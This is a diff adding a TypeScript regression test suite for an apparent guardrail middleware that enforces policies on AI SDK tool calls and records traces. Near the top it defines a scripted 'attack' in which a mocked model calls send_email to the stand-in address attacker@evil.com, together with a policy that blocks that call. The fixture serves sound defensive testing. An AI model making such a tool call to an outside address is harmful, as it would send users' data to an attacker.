@@ -1,0 +1,249 @@
+// Defects found in review, each reproduced before its fix.
+import type { LanguageModelV4StreamPart } from '@ai-sdk/provider';
+import {
+  ConfigurationError,
+  createTracer,
+  GuardTimeoutError,
+  PolicyViolationError,
+  parsePolicy,
+  type Tracer,
+} from '@tracewarden/core';
+import { generateText, isStepCount, streamText, tool, wrapLanguageModel } from 'ai';
+import { MockLanguageModelV4 } from 'ai/test';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { scriptedModel } from './__fixtures__/mock-model.js';
+import { guardTools, tracewardenMiddleware, tracewardenTelemetry } from './index.js';
+
+const policy = parsePolicy(`
+raise "no mail to attacker@evil.com" if:
+    (call: ToolCall)
+    call is tool:send_email
+    call.function.arguments.to == "attacker@evil.com"
+`);
+
+const attack = [
+  { calls: [{ id: 'call_1', name: 'send_email', input: { to: 'attacker@evil.com' } }] },
+  { text: 'done' },
+];
+
+function sendTool(log: string[]) {
+  return tool({
+    inputSchema: z.object({ to: z.string() }),
+    execute: async ({ to }) => {
+      log.push(to);
+      return 'sent';
+    },
+  });
+}
+
+function assistants(tracer: Tracer) {
+  return tracer
+    .blocks()
+    .filter((block) => block.sub_type === 'MESSAGE' && block.payload.role === 'assistant');
+}
+
+describe('review regressions', () => {
+  it('a tracing-only telemetry integration does not switch the middleware’s policy off', async () => {
+    const log: string[] = [];
+    const model = wrapLanguageModel({
+      model: scriptedModel(attack),
+      middleware: tracewardenMiddleware({ policy }),
+    });
+    await expect(
+      generateText({
+        model,
+        prompt: 'go',
+        tools: { send_email: sendTool(log) },
+        stopWhen: isStepCount(3),
+        telemetry: { integrations: [tracewardenTelemetry({ tracer: createTracer() })] },
+      }),
+    ).rejects.toBeInstanceOf(PolicyViolationError);
+    expect(log).toEqual([]);
+  });
+
+  it('telemetry with a policy fails closed when the AI SDK hides the prompt (recordInputs: false)', async () => {
+    const log: string[] = [];
+    const error = await generateText({
+      model: scriptedModel(attack),
+      prompt: 'go',
+      tools: { send_email: sendTool(log) },
+      stopWhen: isStepCount(3),
+      telemetry: { recordInputs: false, integrations: [tracewardenTelemetry({ policy })] },
+    }).catch((e) => e);
+    expect(
+      ConfigurationError.isInstance(error) || ConfigurationError.isInstance(error?.cause),
+    ).toBe(true);
+    expect(log).toEqual([]);
+  });
+
+  it("telemetry 'refuse': a blocked call of a tool without execute is removed, not returned", async () => {
+    const result = await generateText({
+      model: scriptedModel(attack),
+      prompt: 'go',
+      tools: { send_email: tool({ inputSchema: z.object({ to: z.string() }) }) },
+      stopWhen: isStepCount(3),
+      telemetry: {
+        integrations: [
+          tracewardenTelemetry({ tracer: createTracer(), policy, onPolicyViolation: 'refuse' }),
+        ],
+      },
+    });
+    expect(result.toolCalls).toEqual([]);
+    expect(result.text).toContain('blocked by policy');
+  });
+
+  it('guardTools keeps streaming tools working: the output is the last value they yield', async () => {
+    const tracer = createTracer();
+    const model = wrapLanguageModel({
+      model: scriptedModel([
+        { calls: [{ id: 'call_1', name: 'count', input: {} }] },
+        { text: 'counted' },
+      ]),
+      middleware: tracewardenMiddleware({ tracer }),
+    });
+    const result = await generateText({
+      model,
+      prompt: 'go',
+      tools: guardTools(
+        {
+          count: tool({
+            inputSchema: z.object({}),
+            async *execute() {
+              yield 1;
+              yield 2;
+            },
+          }),
+        },
+        { tracer },
+      ),
+      stopWhen: isStepCount(3),
+    });
+    const output = result.steps[0]?.content.find((part) => part.type === 'tool-result');
+    expect(output).toMatchObject({ output: 2 });
+    const recorded = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
+    expect(recorded?.payload.output).toBe(2);
+  });
+
+  it('usage the provider did not report is not recorded as zero tokens', async () => {
+    const tracer = createTracer();
+    const model = wrapLanguageModel({
+      model: new MockLanguageModelV4({
+        doGenerate: {
+          content: [{ type: 'text', text: 'hi' }],
+          finishReason: { unified: 'stop', raw: 'stop' },
+          usage: {
+            inputTokens: {
+              total: undefined,
+              noCache: undefined,
+              cacheRead: undefined,
+              cacheWrite: undefined,
+            },
+            outputTokens: { total: undefined, text: undefined, reasoning: undefined },
+          },
+          warnings: [],
+        },
+      }),
+      middleware: tracewardenMiddleware({ tracer }),
+    });
+    await generateText({ model, prompt: 'go' });
+    expect((assistants(tracer)[0]?.metadata as { usage?: unknown }).usage).toBeUndefined();
+  });
+
+  it('telemetry toolGuards are checked when given: a typo throws at once', () => {
+    expect(() => tracewardenTelemetry({ toolGuards: { retrys: 3 } as never })).toThrow(
+      ConfigurationError,
+    );
+    expect(() =>
+      tracewardenTelemetry({ toolGuards: { tools: { search: { timeot: 1 } as never } } }),
+    ).toThrow(ConfigurationError);
+  });
+
+  it("the AI SDK's own timeout is recorded as a timeout, not a cancellation", async () => {
+    const tracer = createTracer();
+    const model = wrapLanguageModel({
+      model: new MockLanguageModelV4({
+        doGenerate: ({ abortSignal }) =>
+          new Promise((_resolve, reject) =>
+            abortSignal?.addEventListener('abort', () => reject(abortSignal.reason)),
+          ),
+      }),
+      middleware: tracewardenMiddleware({ tracer }),
+    });
+    await generateText({ model, prompt: 'go', timeout: 30, maxRetries: 0 }).catch(() => {});
+    expect((assistants(tracer).at(-1)?.metadata as { status?: unknown }).status).toBe('timeout');
+  });
+
+  for (const stream of [false, true])
+    it(`timeoutSeconds ends the call even when the provider ignores the signal${stream ? ' (stream)' : ''}`, async () => {
+      const tracer = createTracer();
+      let timer: NodeJS.Timeout | undefined;
+      const model = wrapLanguageModel({
+        model: new MockLanguageModelV4({
+          // a provider that never looks at the abort signal and answers after a minute: without the
+          // deadline ending the call itself, this test would time out
+          doGenerate: () =>
+            new Promise((resolve) => {
+              timer = setTimeout(() => resolve(undefined as never), 60_000);
+            }),
+          doStream: async () => ({
+            stream: new ReadableStream<LanguageModelV4StreamPart>({
+              start(controller) {
+                controller.enqueue({ type: 'text-start', id: 't' });
+              },
+              pull: () =>
+                new Promise((resolve) => {
+                  timer = setTimeout(resolve, 60_000);
+                }),
+            }),
+          }),
+        }),
+        middleware: tracewardenMiddleware({ tracer, timeoutSeconds: 0.05 }),
+      });
+      let error: unknown;
+      try {
+        if (stream) {
+          for await (const part of streamText({ model, prompt: 'go' }).stream)
+            if (part.type === 'error') throw part.error;
+        } else await generateText({ model, prompt: 'go', maxRetries: 0 });
+      } catch (caught) {
+        error = caught;
+      }
+      clearTimeout(timer);
+      expect(error).toBeInstanceOf(GuardTimeoutError);
+      expect((assistants(tracer).at(-1)?.metadata as { status?: unknown }).status).toBe('timeout');
+    });
+
+  it('onTraceEnd fires once per top-level call, not for a generateText inside a tool', async () => {
+    const ended: number[] = [];
+    const telemetry = tracewardenTelemetry({
+      onTraceEnd: (tracer) => {
+        ended.push(tracer.blocks().length);
+      },
+    });
+    await generateText({
+      model: scriptedModel([
+        { calls: [{ id: 'call_ask', name: 'ask', input: { q: 'why' } }] },
+        { text: 'outer answer' },
+      ]),
+      prompt: 'outer',
+      tools: {
+        ask: tool({
+          inputSchema: z.object({ q: z.string() }),
+          execute: async ({ q }) =>
+            (
+              await generateText({
+                model: scriptedModel([{ text: 'inner' }]),
+                prompt: q,
+                telemetry: { integrations: [telemetry] },
+              })
+            ).text,
+        }),
+      },
+      stopWhen: isStepCount(3),
+      telemetry: { integrations: [telemetry] },
+    });
+    expect(ended).toHaveLength(1);
+    expect(ended[0]).toBeGreaterThanOrEqual(7);
+  });
+});
